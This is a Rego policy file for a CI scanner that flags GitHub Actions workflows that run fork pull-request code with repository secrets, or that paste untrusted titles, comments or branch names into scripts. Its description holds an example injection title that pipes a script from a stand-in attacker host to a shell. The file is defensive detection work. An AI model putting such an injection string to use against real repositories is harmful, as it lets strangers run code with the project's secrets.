# METADATA
# title: Strangers cannot run code with the repository's rights
# description: |
#   `pull_request_target` and `workflow_run` run with the repository's secrets and a writing token,
#   also for pull requests from forks: whoever checks out the pull request's code there hands both
#   to its author. The same happens when a title, a comment or a branch's name is pasted into a
#   script with `${{ … }}`: `a"; curl evil.sh | sh; "` is a valid title.
# related_resources:
#   - https://docs.github.com/en/actions/concepts/security/script-injections
#   - https://securitylab.github.com/resources/github-actions-preventing-pwn-requests/
# custom:
#   severity: critical
#   level: silver
#   mode: warn
#   needs: [workflows]
#   scope: repo
#   since: "0.1.0"
#   tags: [security]
#   remediation: |
#     Build pull requests on `pull_request`, which has no secrets for forks, and hand texts to
#     scripts through the environment:
#
#     ```yaml
#     on: pull_request
#     jobs:
#       greet:
#         steps:
#           - env:
#               TITLE: ${{ github.event.pull_request.title }}
#             run: echo "$TITLE"
#     ```
package waymark.delivery.no_dangerous_trigger

import rego.v1

import data.waymark.lib.pipeline

default applies := false

applies if count(input.workflows) > 0

applies if count(input.uses) + count(input.runs) > 0

# 1. The pull request's code under a trigger that has the repository's rights

privileged := {"pull_request_target", "workflow_run"}

# Workflows that such an event starts for pull requests of strangers.
exposed contains {"workflow": workflow, "event": event} if {
	some workflow in input.workflows
	some event in privileged
	config := workflow.on[event]
	not harmless(event, config)
}

# It follows workflows of this repository of which none runs for pull requests.
harmless("workflow_run", config) if {
	is_array(config.workflows)
	count(config.workflows) > 0
	every name in config.workflows {
		first := [workflow | some workflow in input.workflows; workflow.name == name]
		count(first) > 0
		every workflow in first {
			count(object.keys(workflow.on) & {"pull_request", "pull_request_target"}) == 0
		}
	}
}

# The files that run then: the workflow, and what it calls in this repository.
reached(workflow) := {workflow.path} | {path |
	some use in input.uses
	use.path == workflow.path
	use.kind == "local"
	some ending in ["", "/action.yml", "/action.yaml"]
	path := sprintf("%s%s", [use.subpath, ending])
}

# What names the pull request's own code.
# Names of contexts are one whatever the case of their letters.
head := concat("", ["(?i)", concat("|", [
	`github\.head_ref`,
	`github\.event\.pull_request\.(head\.(sha|ref|label|repo)|merge_commit_sha)`,
	`github\.event\.workflow_run\.(head_(sha|branch|commit|repository)|pull_requests)`,
	`refs/(remotes/)?pull/\$\{\{`,
])])

checkouts contains use if {
	some use in input.uses
	pipeline.name(use) == "actions/checkout"
	some key in ["ref", "repository"]
	is_string(use["with"][key])
	names_head(use, use["with"][key])
}

names_head(_, text) if regex.match(head, text)

names_head(use, text) if {
	contains(text, "env.")
	carriers := carried(use)
	carriers != ""
	regex.match(sprintf(`\benv\.(%s)\b`, [carriers]), text)
}

checkouts contains run if {
	some run in input.runs
	regex.match(`\bgh pr checkout\b|\bgit\b`, run.run)
	takes_head(run)
}

# A script checks it out by itself, in one step or by fetching it first. Fetched alone it may be
# compared and never run.
takes_head(run) if {
	pattern := sprintf(`\bgh pr checkout\b|\bgit\b.*\b(checkout|switch|pull|reset|merge)\b.*(%s)`, [spellings(run)])
	some line in lines(run)
	regex.match(pattern, line)
}

takes_head(run) if {
	contains(run.run, "FETCH_HEAD")
	pattern := sprintf(`\bgit\b.*\bfetch\b.*(%s)`, [spellings(run)])
	some line in lines(run)
	regex.match(pattern, line)
	some then in lines(run)
	regex.match(`\bgit\b[^;&|]*\b(checkout|switch|reset|merge|rebase|cherry-pick|worktree add)\s[^;&|]*\bFETCH_HEAD\b`, then)
}

# Fetched under a name of its own.
takes_head(run) if {
	some line in lines(run)
	regex.match(`\bgit\b.*\bfetch\b`, line)
	some found in regex.find_all_string_submatch_n(`\bpull/[^:]*\$[^:]*/(?:head|merge):(?:refs/heads/)?([^\s"';&|]+)`, line, -1)
	some then in lines(run)
	regex.match(`\bgit\b[^;&|]*\b(checkout|switch|reset|merge|rebase|worktree add)\s`, then)
	found[1] in regex.split(`[\s"';&|]+`, then)
}

# Lines of a script; comments do not count, a continued line is one.
lines(run) := [line |
	some line in split(replace(run.run, "\\\n", " "), "\n")
	not startswith(trim_space(line), "#")
]

# How a script may name the pull request's code: with an expression, or a variable that carries one.
spellings(run) := sprintf(`%s|\$(\{|env:)?(%s)\b|\$\{\{ *env\.(%s)\b`, [expressions, carriers, carriers]) if {
	carriers := carried(run)
	carriers != ""
}

else := expressions

expressions := `pull/\$|\$\{\{ *(?i:github\.(head_ref|event\.(pull_request\.head|workflow_run\.head)))`

# Variables of a step, its job and its workflow that carry such an expression: their names as
# alternatives of a pattern.
carried(row) := concat("|", sort([name |
	some name, value in variables(row)
	is_string(value)
	contains(value, "${{")
	regex.match(head, value)
	regex.match(`^[A-Za-z_][A-Za-z0-9_]*$`, name)
]))

# The innermost value counts.
variables(row) := object.union(object.union(block(document, ["env"]), block(document, ["jobs", row.job, "env"])), block(row, ["env"])) if {
	some workflow in input.workflows
	workflow.path == row.path
	document := workflow.document
}

else := block(row, ["env"])

block(of, path) := found if {
	found := object.get(of, path, {})
	is_object(found)
}

else := {}

dangerous contains {"at": checkout, "workflow": pair.workflow, "event": pair.event} if {
	some pair in exposed
	some checkout in checkouts
	checkout.path in reached(pair.workflow)
}

findings contains {
	"message": sprintf("Workflow `%s` runs on `%s` and checks out the pull request's code, which then has the repository's token and secrets", [row.workflow.name, row.event]),
	"path": row.at.path,
	"pointer": row.at.pointer,
	"resource": pipeline.place(row.at),
	"remediation": "Run the pull request's code on `pull_request` instead, or leave out the `ref` and work with the base branch",
} if {
	some row in dangerous
	count(guards(row)) == 0
}

unknowns contains {
	"message": sprintf("the pull request's code is checked out on `%s`, but a condition or approval may keep strangers out", [row.event]),
	"path": row.at.path,
} if {
	some row in dangerous
	count(guards(row)) > 0
	not "own code only" in guards(row)
}

# What stands before the checkout: conditions of its job and step, approvals, labels.
guards(row) := {guard |
	some text in conditions(row)
	some guard in kinds_of(row.event, text)
} | approvals(row)

conditions(row) := [text |
	some document in [workflow.document | some workflow in input.workflows; workflow.path in {row.at.path, row.workflow.path}]
	some name, job in jobs_of(document)
	on_the_way(row, name, job)
	some text in array.concat([object.get(job, "if", "")], [object.get(step, "if", "") |
		is_number(row.at.step)
		name == row.at.job
		step := job.steps[row.at.step]
		is_object(step)
	])
	is_string(text)
]

jobs_of(document) := {name: job |
	is_object(document.jobs)
	some name, job in document.jobs
	is_object(job)
}

# The checkout's job; for a checkout that is called, any job of the caller that calls something.
on_the_way(row, name, _) if name == row.at.job

on_the_way(row, _, job) if {
	row.at.path != row.workflow.path
	regex.match(`"uses"`, json.marshal(job))
}

# A condition that lets only code of this repository, or no pull request, through.
kinds_of(_, text) := {"own code only"} if {
	regex.match(`(?i)head\.repo\.full_name *== *github\.repository|github\.repository *== *github\.event\.pull_request\.head\.repo\.full_name|head_repository\.full_name *== *github\.repository|head\.repo\.fork *(== *false|!= *true)|! *github\.event\.pull_request\.head\.repo\.fork`, text)
	not contains(text, "||")
	not regex.match(`! *\(`, text)
}

else := {"own code only"} if {
	regex.match(`github\.event\.workflow_run\.event *== *'(push|schedule|workflow_dispatch|release)'`, text)
	not contains(text, "||")
}

else := {"perhaps"} if {
	regex.match(`(?i)head\.repo|head_repository|\bfork\b|author_association|event_name|\.event\.action|workflow_run\.event|\blabels?\b|github\.(actor|triggering_actor)|\bsender\b|user\.login|github\.repository|\bneeds\.|\binputs\.|\bsteps\.|\bvars\.`, text)
}

else := set()

# A job in an environment may wait for a reviewer; a label is put on by a maintainer.
approvals(row) := {"perhaps" |
	some workflow in input.workflows
	workflow.path in {row.at.path, row.workflow.path}
	some name, job in jobs_of(workflow.document)
	on_the_way(row, name, job)
	some key in ["environment", "needs"]
	awaits(workflow.document, job, key)
} | {"perhaps" |
	row.workflow.on.pull_request_target.types == ["labeled"]
}

awaits(_, job, "environment") if "environment" in object.keys(job)

# A job that waits for another one may be kept back there.
awaits(document, job, "needs") if {
	some needed in as_list(object.get(job, "needs", []))
	some key in ["if", "environment"]
	key in object.keys(jobs_of(document)[needed])
}

as_list(value) := value if is_array(value)

else := [value]

# 2. A stranger's text in a script

# What strangers write, and the events that bring it. A composite action may be called on any.
contexts := array.concat(texts, [{
	"pattern": `(?i)\btoJSON\( *github(\.event(\.(pull_request|issue|comment|review|discussion|head_commit|commits|pages|workflow_run))?)? *\)`,
	"events": {event | some text in texts; some event in text.events},
}])

texts := [
	{"pattern": `github\.head_ref`, "events": pull_requests},
	{"pattern": `github\.event\.pull_request\.(title|body|head\.ref|head\.label|head\.repo\.(default_branch|description|homepage))`, "events": pull_requests},
	{"pattern": `github\.event\.issue\.(title|body)`, "events": {"issues", "issue_comment"}},
	{"pattern": `github\.event\.comment\.body`, "events": {"issue_comment", "commit_comment", "discussion_comment", "pull_request_review_comment"}},
	{"pattern": `github\.event\.review\.body`, "events": {"pull_request_review"}},
	{"pattern": `github\.event\.discussion\.(title|body)`, "events": {"discussion", "discussion_comment"}},
	{"pattern": `github\.event\.pages\[?[^ ]*page_name`, "events": {"gollum"}},
	{"pattern": `github\.event\.(head_commit|commits\[?[^ ]*?)\.(message|author\.(email|name))`, "events": {"push"}},
	{"pattern": `github\.event\.workflow_run\.(head_branch|display_title|head_commit\.(message|author\.(email|name)))`, "events": {"workflow_run"}},
]

pull_requests := {"pull_request", "pull_request_target", "pull_request_review", "pull_request_review_comment"}

scripts := array.concat([{"row": run, "text": run.run, "escaped": ""} | some run in input.runs], in_javascript)

# In JavaScript, `toJSON` makes a text that cannot break out.
in_javascript := [{"row": use, "text": use["with"].script, "escaped": `toJSON`} |
	some use in input.uses
	pipeline.name(use) == "actions/github-script"
	is_string(use["with"].script)
]

findings contains {
	"message": sprintf("`%s` is pasted into a script: whoever writes it can run commands", [named]),
	"path": script.row.path,
	"pointer": pointer(script.row),
	"resource": pipeline.place(script.row),
	"remediation": sprintf("Set `env: {VALUE: \"${{ %s }}\"}` on the step and read the variable in the script", [named]),
} if {
	some script in scripts
	contains(script.text, "${{")
	some expression in regex.find_n(`(?s)\$\{\{.*?\}\}`, script.text, -1)
	contains(lower(expression), "github")
	regex.match(`(?i)event|head_ref|tojson`, expression)
	left := flowing(expression, script.escaped)
	some context in contexts
	may_run_on(script.row, context.events)
	some named in regex.find_n(concat("", ["(?i)", context.pattern]), left, -1)
}

pointer(row) := row.pointer if row.run

else := sprintf("%s/with/script", [trim_suffix(row.pointer, "/uses")])

# What of an expression ends up in the script: comparisons and tests only give true or false.
flowing(expression, escaped) := result if {
	dotted := regex.replace(expression, `\[['"]([A-Za-z_]+)['"]\]`, `.$1`)
	plain := regex.replace(dotted, ` *\. *`, ".")
	tested := regex.replace(plain, `(?i)\b(contains|startsWith|endsWith|hashFiles)\([^()]*(\([^()]*\)[^()]*)*\)`, "true")
	compared := regex.replace(tested, `[A-Za-z0-9_.*]+ *(==|!=|<=|>=|<|>)`, "")
	right := regex.replace(compared, `(==|!=|<=|>=|<|>) *[A-Za-z0-9_.*]+`, "")
	result := without(right, escaped)
}

without(text, "") := text

without(text, name) := regex.replace(text, sprintf(`(?i)\b%s\([^()]*\)`, [name]), "") if name != ""

may_run_on(row, _) if row.workflow == null

may_run_on(row, events) if {
	some workflow in input.workflows
	workflow.path == row.path
	count(object.keys(workflow.on) & (events | {"workflow_call"})) > 0
}
